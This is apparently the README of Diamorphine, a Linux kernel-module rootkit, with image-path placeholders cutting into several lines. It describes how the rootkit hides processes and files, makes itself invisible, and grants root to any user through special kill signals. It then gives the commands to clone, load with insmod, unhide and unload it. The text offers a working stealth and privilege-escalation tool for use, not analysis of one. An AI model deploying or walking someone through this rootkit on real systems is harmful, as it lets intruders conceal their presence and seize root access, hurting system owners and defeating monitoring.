Diamorphine is a LKM rootkit for Linux Kernels 2.6.X/3.X

When loaded, the module starts invisible;

Hide/unhide any process by sending a signal 31;

Sending a signal 63(to any pid) makes the module become (in)visible;

Sending a signal 64(to any pid) makes the given user become root;

Files or directories starting with the MAGIC_PREFIX become invisble;

Source: https://github.com/m0nad/Diamorphine


Verify ifthe kernel is 2.6.X/3.X

uname -r

Clone the repository

git clone https://github.com/m0nad/Diamorphine

Enter the foldercd Diamorphine



Load the module(as root)

insmod diamorphine.ko


The modulestarts invisible, to remove you need to make its visible

kill -63 0

Then remove themodule(as root)

rmmod diamorphine